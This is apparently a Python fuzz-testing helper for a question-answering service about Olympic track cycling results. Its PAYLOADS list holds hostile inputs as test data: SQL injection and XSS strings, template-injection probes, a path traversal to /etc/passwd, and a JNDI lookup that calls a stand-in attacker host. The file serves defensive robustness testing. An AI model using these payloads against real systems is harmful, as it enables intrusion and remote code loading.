"""Hostile and odd inputs shared by the reliability tests, and the checks every answer must pass."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

# Every code point: lone surrogates, controls, NUL, private use, unassigned.
ANY_CHAR = st.characters(exclude_categories=())
SURROGATE = st.characters(categories=["Cs"])

PAYLOADS = [
    "'; DROP TABLE facts; --",
    "1 OR 1=1",
    '" OR ""="',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "{{7*7}}",
    "{% for x in range(9**9) %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "${7*7}",
    "#{7*7}",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "# Heading\n\n* list\n\n```\ncode\n```",
    "| a | b |\n|---|---|",
    "\\u0000 \\x00 %00",
    "../../../../etc/passwd",
    "?!.,;:'\"()[]{}<>",
    "...",
    "'",
    "’",
    "\u202ewho won the keirin?",  # right-to-left override
    "من فاز بسباق الكيرين للرجال؟",  # Arabic, right to left
    "מי זכה בספרינט?",  # Hebrew
    "🚴\u200d♀️🥇🇳🇱 who won? 🏆" * 3,
    "Ｗｈｏ ｗｏｎ ｔｈｅ ｗｏｍｅｎ’ｓ ｋｅｉｒｉｎ？",  # full-width letters
    "Who won the ke\u0301irin?",  # combining accent
    "Who\u200b won\u200b the\u200b sprint?",  # zero-width spaces
    "\ufeffWho won the omnium?",  # byte-order mark
    "Who won the Madison?\x00",
    "Who\x00won\x00the\x00keirin?",
    "\x1b[31mWho won the sprint?\x1b[0m",  # terminal escapes
    "\r\nWho won\r the\x0b sprint\x0c?\x7f",
    "\x85\u2028\u2029Who won the sprint?",  # Unicode line breaks
    "who won the keirin?\ud800",
    "\udcff who won the sprint",
    "\ud83d\ude00 (a surrogate pair written as two code points)",
    "İstanbul ǅ ß ﬁ K Å",  # case-mapping oddities
    "\U000e0001\U000f0000\uffff\ufffe",  # tag, private use, noncharacters
    "0" * 999,
    "9" * 400 + " golds?",
    "and the men's?",
    "who?",
    "the the the the the",
]

# Words that make the parser, the router and the reranker work: lexicon words, rider
# names and their typos, question words, pronouns.
_WORDS = (
    "who won the men's women's keirin sprint omnium Madison team pursuit gold silver bronze "
    "Britain Dutch Netherlands America Lavreysen Andrews Valente Leitão Kenny Harrie Ellesse "
    "how many golds did and what about which country record world first Madisson Lavreysan "
    "kierin omnuim behind ahead of beat final she he they her his it not only also most "
    "least medal medals Olympic Paris 2024 Tokyo when where why describe tone ? , . !"
)
QUESTION_WORDS = _WORDS.split()

# Questions the structured path answers (checked by the timing test: it records which).
STRUCTURED_QUESTIONS = [
    "Who won the women's keirin?",
    "Who won the men's omnium?",
    "How many golds did the Netherlands win?",
    "Did Britain win the team pursuit?",
    "Who won the keirin?",
    "Lavreysen",
    "Who won the womens kierin?",
    "Lavreysan",
]

hostile_text = st.one_of(
    st.text(ANY_CHAR, max_size=80),
    st.sampled_from(PAYLOADS),
    st.lists(
        st.sampled_from(QUESTION_WORDS + PAYLOADS) | st.text(ANY_CHAR, min_size=1, max_size=3),
        max_size=30,
    ).map(" ".join),
    # a real question with odd characters spliced in
    st.tuples(
        st.sampled_from(STRUCTURED_QUESTIONS),
        st.integers(0, 30),
        st.text(ANY_CHAR | SURROGATE, min_size=1, max_size=3),
    ).map(lambda t: t[0][: t[1]] + t[2] + t[0][t[1] :]),
)

# Histories as a caller might pass them by mistake.
history_item = st.one_of(
    st.none(),
    st.integers(),
    st.floats(allow_nan=True),
    st.binary(max_size=10),
    st.lists(st.text(max_size=5), max_size=3),
    st.text(ANY_CHAR, max_size=40),
    st.sampled_from(PAYLOADS + STRUCTURED_QUESTIONS),
    st.just("x" * 100_000),
)
odd_history = st.one_of(
    st.none(),
    st.text(ANY_CHAR, max_size=40),
    st.lists(history_item, max_size=12),
    st.lists(st.sampled_from(STRUCTURED_QUESTIONS + PAYLOADS), max_size=12).map(tuple),
)

METHODS = {"structured", "retrieval", "none"}


def check_citations(citations: Iterable[Mapping[str, Any]], corpus: Path) -> None:
    """Every citation quotes its document exactly: `document[start:end] == text`."""
    documents: dict[str, str] = {}
    for c in citations:
        doc = c["doc"]
        if doc not in documents:
            path = (corpus / doc).resolve()
            assert path.is_relative_to(corpus.resolve()), c
            documents[doc] = path.read_text(encoding="utf-8")
        text = documents[doc]
        assert 0 <= c["start"] <= c["end"] <= len(text), c
        assert text[c["start"] : c["end"]] == c["text"], c


def check_payload(payload: Mapping[str, Any], corpus: Path) -> None:
    """A well-formed answer: text, method and citations; an abstention cites nothing."""
    assert set(payload) == {"text", "method", "citations"}, payload
    assert isinstance(payload["text"], str) and payload["text"].strip(), payload
    assert payload["method"] in METHODS, payload
    assert isinstance(payload["citations"], list), payload
    if payload["method"] == "none":
        assert payload["citations"] == [], payload
    else:
        assert payload["citations"], payload
    check_citations(payload["citations"], corpus)
